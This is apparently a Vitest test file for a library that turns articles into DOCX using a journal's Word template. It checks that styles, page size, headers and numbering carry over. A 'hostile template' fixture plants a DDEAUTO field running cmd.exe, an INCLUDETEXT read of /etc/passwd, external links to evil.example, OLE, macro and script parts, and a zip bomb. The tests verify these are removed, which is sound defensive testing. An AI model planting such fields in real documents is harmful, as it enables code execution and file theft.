/** A journal's own file as template: what is taken, how ours stands on it, and what never comes across. */
import { codeOf, Messages } from '@offprint/core'
import { describe, expect, it } from 'vitest'
import { toDocx } from '../src/index.js'
import { docxOf, p, r } from './build-docx.js'
import { again, differences } from './fixture-article.js'
import { all, open, styled, val, words } from './package-of.js'
import { sample, sampleMedia } from './sample.js'

const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const namespaces = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${rel}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"`
const style = (id: string, name: string, inner = '', type = 'paragraph') =>
  `<w:style w:type="${type}" w:styleId="${id}"><w:name w:val="${name}"/>${inner}</w:style>`
const header = (content: string, kind = 'hdr') =>
  `<?xml version="1.0"?><w:${kind} ${namespaces}>${content}</w:${kind}>`
const fieldRuns = (code: string, result: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${r(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`
const picture = (attribute: string) =>
  `<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="Logo"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="Logo"><a:hlinkClick r:id="rEvil"/></pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attribute}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`

/** A journal's file as Word in German writes it: ids of its own, numbered headings, a header with a logo. */
const journal = (body = '', files: Record<string, string | Uint8Array> = {}, relations = '') =>
  docxOf({
    body: `${p('Text of the template.')}${body}<w:sectPr><w:headerReference w:type="default" r:id="rHead"/><w:footerReference w:type="default" r:id="rFoot"/><w:pgSz w:w="11000" w:h="15000"/><w:pgMar w:top="900" w:right="1000" w:bottom="900" w:left="1000" w:header="500" w:footer="500" w:gutter="0"/></w:sectPr>`,
    styles: [
      `<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Journal Sans" w:hAnsi="Journal Sans"/></w:rPr></w:rPrDefault></w:docDefaults>`,
      style('Standard', 'Normal').replace('<w:style ', '<w:style w:default="1" '),
      style(
        'berschrift1',
        'heading 1',
        '<w:basedOn w:val="Standard"/><w:pPr><w:numPr><w:numId w:val="3"/></w:numPr><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:color w:val="AA0000"/></w:rPr>'
      ),
      style('Titel', 'Title', '<w:basedOn w:val="Standard"/>'),
      style('Caption', 'Some other style')
    ].join(''),
    numbering:
      '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:num w:numId="3"><w:abstractNumId w:val="0"/></w:num>',
    relations: `<Relationship Id="rHead" Type="${rel}/header" Target="header1.xml"/><Relationship Id="rFoot" Type="${rel}/footer" Target="footer1.xml"/>${relations}`,
    files: {
      'word/header1.xml': header(`<w:p>${r('Journal of Templates ')}${picture('r:embed="rLogo"')}</w:p>`),
      'word/_rels/header1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rLogo" Type="${rel}/image" Target="media/logo.png"/><Relationship Id="rEvil" Type="${rel}/hyperlink" Target="https://evil.example/" TargetMode="External"/></Relationships>`,
      'word/media/logo.png': [...sampleMedia().values()][0]!.bytes,
      'word/footer1.xml': header(`<w:p>${fieldRuns(' PAGE ', '7')}</w:p>`, 'ftr'),
      ...files
    }
  })

const written = async (template: Uint8Array, options: object = {}, messages = new Messages()) => {
  const bytes = await toDocx(sample(), { media: sampleMedia(), messages, options: { template, ...options } })
  return { file: open(bytes), bytes, messages }
}

describe('a template', () => {
  it('gives its styles, whatever their ids, and ours stand on them', async () => {
    const { file } = await written(journal())
    const root = file.root('word/document.xml')
    expect(styled(root, 'Titel').map(words)[0]).toContain('Loss of free chlorine')
    expect(styled(root, 'berschrift1').map(words)).toContain('1. Introduction')
    expect(styled(root, 'Heading1')).toEqual([])
    const styles = all(file.root('word/styles.xml'), 'w:style')
    const byId = new Map(styles.map(each => [val(each, 'w:styleId')!, each]))
    expect(byId.size).toBe(styles.length)
    expect(file.text('word/styles.xml')).toContain('Journal Sans')
    expect(val(all(byId.get('Author')!, 'w:basedOn')[0])).toBe('Standard')
    // An id that means something else in the journal's file.
    expect(val(all(byId.get('OffprintCaption')!, 'w:name')[0])).toBe('caption')
    expect(styled(root, 'OffprintCaption').length).toBeGreaterThan(0)
    expect(
      styles.filter(each => val(each, 'w:default') === '1' && val(each, 'w:type') === 'paragraph')
    ).toHaveLength(1)
    for (const part of ['word/document.xml', 'word/footnotes.xml'])
      for (const name of ['w:pStyle', 'w:rStyle', 'w:tblStyle'])
        for (const each of all(file.root(part), name)) expect([...byId.keys()]).toContain(val(each))
  })

  it('gives its page, and pictures and tables fit it', async () => {
    const { file } = await written(journal())
    const root = file.root('word/document.xml')
    const [size] = all(root, 'w:pgSz')
    expect([val(size, 'w:w'), val(size, 'w:h')]).toEqual(['11000', '15000'])
    expect(val(all(root, 'w:pgMar')[0], 'w:left')).toBe('1000')
    expect(all(root, 'w:sectPr')).toHaveLength(1)
    for (const each of all(root, 'w:tblW')) expect(Number(val(each, 'w:w'))).toBeLessThanOrEqual(9000)
  })

  it('gives its headers and footers with their pictures, and ours go', async () => {
    const { file, messages } = await written(journal())
    const references = all(file.root('word/document.xml'), 'w:headerReference')
    expect(references).toHaveLength(1)
    const links = new Map(
      all(file.root('word/_rels/document.xml.rels'), 'Relationship').map(each => [
        val(each, 'Id'),
        val(each, 'Target')
      ])
    )
    const part = `word/${links.get(val(references[0], 'r:id'))}`
    expect(words(file.root(part))).toBe('Journal of Templates ')
    expect(file.names.filter(each => /^word\/(?:header|footer)\d/.test(each))).toEqual([])
    const [blip] = all(file.root(part), 'a:blip')
    const own = all(file.root(part.replace('word/', 'word/_rels/').concat('.rels')), 'Relationship')
    expect(own.map(each => [val(each, 'Id'), val(each, 'TargetMode')])).toEqual([
      [val(blip, 'r:embed'), undefined]
    ])
    expect(file.names).toContain(`word/${val(own[0], 'Target')}`)
    expect(messages.list.map(codeOf).filter(each => each.startsWith('docx:template'))).toEqual([])
  })

  it('numbers its headings only where the article prints no numbers', async () => {
    const { file } = await written(journal())
    const headings = styled(file.root('word/document.xml'), 'berschrift1')
    // The sample prints “1.”: the journal's own number is taken off.
    expect(headings.map(each => val(all(each, 'w:numId')[0]))).toEqual(headings.map(() => '0'))
    const numbering = file.root('word/numbering.xml')
    const used = val(
      all(
        all(file.root('word/styles.xml'), 'w:style').find(each => val(each, 'w:styleId') === 'berschrift1')!,
        'w:numId'
      )[0]
    )
    const number = all(numbering, 'w:num').find(each => val(each, 'w:numId') === used)!
    const definition = val(all(number, 'w:abstractNumId')[0])
    expect(all(numbering, 'w:abstractNum').map(each => val(each, 'w:abstractNumId'))).toContain(definition)
    // 17.9.17: all definitions stand before all numbers.
    const order = numbering.children.flatMap(each => (each.type === 'element' ? [each.name] : []))
    expect(order.lastIndexOf('w:abstractNum')).toBeLessThan(order.indexOf('w:num'))
  })

  it('changes no word of the article, and nothing of its own comes into the text', async () => {
    const { file, bytes } = await written(journal())
    const plain = open(await toDocx(sample(), { media: sampleMedia() }))
    expect(words(file.root('word/document.xml'))).toBe(words(plain.root('word/document.xml')))
    expect(differences(sample(), await again(bytes))).toEqual(
      differences(sample(), await again(await toDocx(sample(), { media: sampleMedia() })))
    )
    const other = await written(journal())
    expect(Buffer.from(other.bytes).equals(Buffer.from(bytes))).toBe(true)
  })

  it('goes with a preset: lines are numbered, the look is the journal’s', async () => {
    const { file } = await written(journal(), { preset: 'manuscript' })
    expect(all(file.root('word/document.xml'), 'w:lnNumType')).toHaveLength(1)
    expect(styled(file.root('word/document.xml'), 'ManuscriptCounts')).toHaveLength(1)
  })
})

describe('a hostile template', () => {
  const evil = () =>
    journal(
      '',
      {
        'word/header1.xml': header(
          [
            `<w:p>${fieldRuns(' DDEAUTO c:\\\\cmd.exe "/k calc" ', 'shown')}</w:p>`,
            `<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;file:///etc/passwd&quot;">${r('kept')}</w:fldSimple></w:p>`,
            `<w:p><w:hyperlink r:id="rEvil">${r('a link')}</w:hyperlink></w:p>`,
            `<w:p>${picture('r:link="rFar"')}${picture('r:embed="rFake"')}</w:p>`,
            `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rOle"/></w:object></w:r></w:p>`,
            `<w:altChunk r:id="rChunk"/><w:sdt><w:sdtPr><w:dataBinding w:xpath="/x"/></w:sdtPr><w:sdtContent>${p('bound')}</w:sdtContent></w:sdt>`,
            `<w:p>${fieldRuns(' PAGE ', '1')}<w:r><w:instrText>MACROBUTTON x</w:instrText></w:r></w:p>`
          ].join('')
        ),
        'word/_rels/header1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rEvil" Type="${rel}/hyperlink" Target="https://evil.example/" TargetMode="External"/><Relationship Id="rFar" Type="${rel}/image" Target="https://evil.example/i.png" TargetMode="External"/><Relationship Id="rFake" Type="${rel}/image" Target="media/fake.png"/><Relationship Id="rOle" Type="${rel}/oleObject" Target="embeddings/o.bin"/><Relationship Id="rChunk" Type="${rel}/aFChunk" Target="chunk.html"/></Relationships>`,
        'word/media/fake.png': 'MZ this is no picture',
        'word/embeddings/o.bin': 'ole',
        'word/chunk.html': '<script>1</script>',
        'word/vbaProject.bin': 'macro',
        'word/settings.xml': `<?xml version="1.0"?><w:settings ${namespaces}><w:attachedTemplate r:id="rTemplate"/><w:evenAndOddHeaders/></w:settings>`,
        'docProps/core.xml': '<x>Template Author</x>'
      },
      `<Relationship Id="rSettings" Type="${rel}/settings" Target="settings.xml"/><Relationship Id="rVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rTemplate" Type="${rel}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`
    )

  it('brings no macro, no object, no relationship to the outside, no field that runs; says so', async () => {
    const { file, messages } = await written(evil())
    expect(file.names.filter(each => /vba|\.bin$|chunk|\.html|fake/.test(each))).toEqual([])
    for (const name of file.names) {
      const text = file.text(name)
      expect(text, name).not.toMatch(
        /evil\.example|DDEAUTO|INCLUDETEXT|MACROBUTTON|attachedTemplate|OLEObject|altChunk|dataBinding|Template Author/
      )
    }
    const head = file.names.find(each => /templateHeader\d+\.xml$/.test(each))!
    // Words that fields and links show are words of the journal: they stay.
    expect(all(file.root(head), 'w:p').map(words)).toEqual(['shown', 'kept', 'a link', '', '', 'bound', '1'])
    expect(all(file.root(head), 'w:instrText').map(each => each.children.length)).toEqual([1])
    expect(all(file.root(head), 'w:drawing')).toEqual([])
    expect(messages.list.filter(each => codeOf(each) === 'docx:template-left')).toHaveLength(1)
  })

  it('is opened under the limits of every archive, and refused for what it is', async () => {
    await expect(written(new TextEncoder().encode('{\\rtf1 hello}'))).rejects.toThrow(/RTF/)
    await expect(written(new TextEncoder().encode('no archive'))).rejects.toThrow()
    const bomb = journal('', { 'word/theme/big.xml': 'x'.repeat(30_000_000) })
    await expect(written(bomb)).rejects.toMatchObject({ code: 'core:limit-zip-ratio' })
    const dtd = docxOf({ body: p('x'), files: {} })
    const broken = docxOf({ body: p('x'), styles: '<w:style' })
    await expect(written(broken)).rejects.toThrow()
    await expect(written(dtd)).resolves.toBeDefined()
  })

  it('with a page of no size or no width keeps a page that can be written on', async () => {
    const odd = docxOf({
      body: `${p('x')}<w:sectPr><w:pgSz w:w="99999999" w:h="-4"/><w:pgMar w:left="9000" w:right="9000" w:top="x"/></w:sectPr>`,
      styles: style('Normal', 'Normal')
    })
    const [size] = all((await written(odd)).file.root('word/document.xml'), 'w:pgSz')
    expect([val(size, 'w:w'), val(size, 'w:h')]).toEqual(['11906', '16838'])
  })
})
